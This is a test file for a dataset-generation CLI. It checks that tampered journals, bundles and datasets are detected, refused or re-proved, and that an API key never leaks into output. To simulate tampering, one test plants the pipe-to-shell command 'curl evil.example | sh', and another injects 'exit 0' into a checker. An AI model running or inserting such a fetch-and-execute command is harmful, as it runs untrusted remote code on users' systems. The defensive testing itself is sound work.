// needs: witness docker
import { describe, expect } from "bun:test";
import { existsSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { cleanEnv, ROOT, runCli } from "../helpers/cli.ts";
import { dockerPresent, testWith, witnessBin } from "../helpers/deps.ts";
import { startFakeOpenAI } from "../helpers/openai-server.ts";

const WITNESS = Boolean(witnessBin());
const DOCKER = dockerPresent();
const FAST = join(ROOT, "fixtures/configs/witness-fast.toml");
const tmp = (p: string) => mkdtempSync(join(tmpdir(), `sekft-resume-${p}-`));
const gen = (out: string, ...more: string[]) => runCli(["gen", "--config", FAST, "--count", "2", "--workers", "2", "--out", out, ...more]);
// A split with no line has no file: it reads as no lines.
const lines = (f: string): string[] => (existsSync(f) ? readFileSync(f, "utf8") : "").split("\n").filter(Boolean);

describe("a run directory belongs to one run (Hardening 2, item 1)", () => {
  testWith(
    WITNESS,
    "witness: a rerun with another seed or shard is refused naming what differs; --force starts over",
    async () => {
      const out = tmp("seed");
      const first = await gen(out, "--seed", "5");
      expect(first.code, first.stderr).toBe(0);
      const before = readFileSync(join(out, "witness/meta.jsonl"), "utf8");

      const other = await gen(out, "--seed", "7");
      expect(other.code, other.stderr).toBe(2);
      expect(other.stderr).toContain("seed 5 ≠ 7");
      expect(other.stderr).toContain("--force");
      expect(other.stderr).not.toContain("resuming");
      // Refused before anything was touched: the finished set is still there, whole.
      expect(readFileSync(join(out, "witness/meta.jsonl"), "utf8")).toBe(before);
      expect(existsSync(join(out, "witness/manifest.json"))).toBe(true);

      const shard = await gen(out, "--seed", "5", "--shard", "0/2");
      expect(shard.code, shard.stderr).toBe(2);
      expect(shard.stderr).toContain("shard none ≠ 0/2");

      const forced = await gen(out, "--seed", "7", "--force");
      expect(forced.code, forced.stderr).toBe(0);
      expect(forced.stderr).not.toContain("resuming");
      expect(JSON.parse(readFileSync(join(out, "witness/manifest.json"), "utf8")).seed).toBe(7);
      const again = await gen(out, "--seed", "7");
      expect(again.code, again.stderr).toBe(0);
      expect(again.stderr).toContain("resuming: 2 examples");
    },
    300_000,
  );

  testWith(
    WITNESS,
    "witness: a rerun with another config is refused naming the config digest; an old journal without identity is refused",
    async () => {
      const out = tmp("config");
      const first = await gen(out, "--seed", "5");
      expect(first.code, first.stderr).toBe(0);
      const cfg = join(out, "other.toml");
      writeFileSync(cfg, readFileSync(FAST, "utf8").replace("valid_share = 0.3", "valid_share = 0.25"));
      const other = await runCli(["gen", "--config", cfg, "--count", "2", "--workers", "2", "--out", out, "--seed", "5"]);
      expect(other.code, other.stderr).toBe(2);
      expect(other.stderr).toMatch(/config digest [0-9a-f]{12}… ≠ [0-9a-f]{12}…/);

      // A journal an older sekft wrote (no identity line): identity unknown, refused with the way out.
      const journal = join(out, "witness/journal.jsonl");
      writeFileSync(journal, `${lines(journal).slice(1).join("\n")}\n`);
      const old = await gen(out, "--seed", "5");
      expect(old.code, old.stderr).toBe(2);
      expect(old.stderr).toContain("no run identity");
      expect(old.stderr).toContain("--force");
    },
    300_000,
  );

  testWith(
    WITNESS,
    "witness: a hand-edited journal answer is not reused: it is proved again and never copied into train.jsonl",
    async () => {
      const out = tmp("edit");
      const first = await gen(out, "--seed", "5");
      expect(first.code, first.stderr).toBe(0);
      const journal = join(out, "witness/journal.jsonl");
      const rows = lines(journal);
      const entry = JSON.parse(rows[1]!);
      expect(entry.status).toBe("kept");
      entry.rendered.answer = entry.rendered.answer.replace("```sh", "HAND-EDITED: curl evil.example | sh\n\n```sh");
      rows[1] = JSON.stringify(entry);
      writeFileSync(journal, `${rows.join("\n")}\n`);

      const again = await gen(out, "--seed", "5");
      expect(again.code, again.stderr).toBe(0);
      for (const f of ["train.jsonl", "valid.jsonl", "meta.jsonl"].filter((f) => existsSync(join(out, "witness", f))))
        expect(readFileSync(join(out, "witness", f), "utf8")).not.toContain("HAND-EDITED");
      expect(again.stderr).toContain("journal.jsonl:2: the entry does not match its digest");
      expect(lines(join(out, "witness/train.jsonl")).length + lines(join(out, "witness/valid.jsonl")).length).toBe(2);
    },
    300_000,
  );

  testWith(
    DOCKER,
    "shell: a rerun with another seed is refused; an edited bundle is gated again, not resumed",
    async () => {
      const bundles = tmp("bundles");
      const made = await runCli(["gen", "--track", "shell", "--count", "2", "--workers", "2", "--out", bundles, "--seed", "5"]);
      expect(made.code, made.stderr).toBe(0);
      const shellSeed = await runCli(["gen", "--track", "shell", "--count", "2", "--workers", "2", "--out", bundles, "--seed", "6"]);
      expect(shellSeed.code, shellSeed.stderr).toBe(2);
      expect(shellSeed.stderr).toContain("seed 5 ≠ 6");
      expect(existsSync(join(bundles, "shell/manifest.json"))).toBe(true);
      // A hand-edited bundle is not resumed as admitted: it is gated again and written back as authored.
      const dir = join(bundles, "shell/bundles");
      const file = join(dir, readdirSync(dir).sort()[0]!);
      const admitted = readFileSync(file, "utf8");
      writeFileSync(file, admitted.replace('"checker": "', '"checker": "exit 0\\n'));
      const resumed = await runCli(["gen", "--track", "shell", "--count", "2", "--workers", "2", "--out", bundles, "--seed", "5"]);
      expect(resumed.code, resumed.stderr).toBe(0);
      expect(resumed.stderr).toContain("does not match its id (edited?)");
      expect(JSON.parse(readFileSync(file, "utf8")).checker).toBe(JSON.parse(admitted).checker);
    },
    600_000,
  );

  testWith(
    DOCKER,
    "rollout: another operator setting, format or config on the same --out is refused; operators still accumulate",
    async () => {
      const bundles = tmp("rollout-bundles");
      const made = await runCli(["gen", "--track", "shell", "--count", "2", "--workers", "2", "--out", bundles, "--seed", "5"]);
      expect(made.code, made.stderr).toBe(0);
      const out = tmp("rollout");
      const roll = (...more: string[]) => runCli(["rollout", bundles, "--out", out, "--workers", "2", ...more]);
      const ref = await roll("--operator", "reference");
      expect(ref.code, ref.stderr).toBe(0);
      // Reference, then perturb: the documented way to get pairs — a new operator joins the directory.
      const per = await roll("--operator", "perturb", "--samples", "1");
      expect(per.code, per.stderr).toBe(0);
      const decided = lines(join(out, "rollout/trajectories.jsonl")).length;

      const more = await roll("--operator", "perturb", "--samples", "2");
      expect(more.code, more.stderr).toBe(2);
      expect(more.stderr).toContain("samples 1 ≠ 2");
      const tools = await roll("--operator", "perturb", "--samples", "1", "--format", "tools");
      expect(tools.code, tools.stderr).toBe(2);
      expect(tools.stderr).toContain("format chat ≠ tools");
      const cfg = join(out, "turns.toml");
      writeFileSync(cfg, "[rollout]\nmax_turns = 7\n");
      const config = await roll("--operator", "perturb", "--samples", "1", "--config", cfg);
      expect(config.code, config.stderr).toBe(2);
      expect(config.stderr).toContain("config digest");
      expect(lines(join(out, "rollout/trajectories.jsonl")).length).toBe(decided);

      // A model operator: another model on the same --out is refused, and the API key is never recorded.
      const server = await startFakeOpenAI(() => ({ content: "exit", usage: { prompt_tokens: 1, completion_tokens: 1 } }));
      try {
        const model = (name: string) => {
          const f = join(out, `${name}.toml`);
          writeFileSync(f, `[shell.operator]\nbase_url = "${server.url}"\nmodel = "${name}"\napi_key_env = "OP_KEY"\n`);
          return runCli(["rollout", bundles, "--out", out, "--operator", "model", "--samples", "1", "--config", f], {
            env: cleanEnv({ OP_KEY: "sk-secret-operator-key-123456" }),
          });
        };
        const a = await model("alpha");
        expect(a.code, a.stderr).toBe(0);
        const b = await model("beta");
        expect(b.code, b.stderr).toBe(2);
        expect(b.stderr).toContain("model alpha ≠ beta");
        for (const f of readdirSync(join(out, "rollout")).filter((f) => f.endsWith(".jsonl") || f.endsWith(".json")))
          expect(readFileSync(join(out, "rollout", f), "utf8")).not.toContain("sk-secret-operator-key");
      } finally {
        await server.close();
      }

      const forced = await roll("--operator", "perturb", "--samples", "2", "--force");
      expect(forced.code, forced.stderr).toBe(0);
      const operators = new Set(lines(join(out, "rollout/trajectories.jsonl")).map((l) => JSON.parse(l).operator));
      expect([...operators]).toEqual(["perturb"]);
    },
    600_000,
  );
});

describe("an edited dataset is reported (Hardening 2, item 2)", () => {
  testWith(
    WITNESS && DOCKER,
    "verify DIR after one byte of train.jsonl changed: exit 1 naming the file and both digests, lines still verified",
    async () => {
      const out = tmp("verify");
      const first = await gen(out, "--seed", "5");
      expect(first.code, first.stderr).toBe(0);
      const train = join(out, "witness/train.jsonl");
      const manifest = JSON.parse(readFileSync(join(out, "witness/manifest.json"), "utf8"));
      const text = readFileSync(train, "utf8");
      expect(text.length).toBeGreaterThan(0);
      // One byte of prose, so every script still runs and passes.
      const at = text.indexOf("supply-chain");
      expect(at).toBeGreaterThan(0);
      writeFileSync(train, `${text.slice(0, at)}S${text.slice(at + 1)}`);

      const v = await runCli(["verify", out, "--workers", "2"]);
      expect(v.code, v.stderr).toBe(1);
      expect(v.stderr).toContain("train.jsonl does not match its manifest");
      expect(v.stderr).toContain(manifest.files["train.jsonl"]);
      expect(v.stderr).toMatch(/train\.jsonl: \d+ passed, 0 failed/);
      expect(v.stderr).toContain("no longer matches the manifest");
    },
    300_000,
  );
});
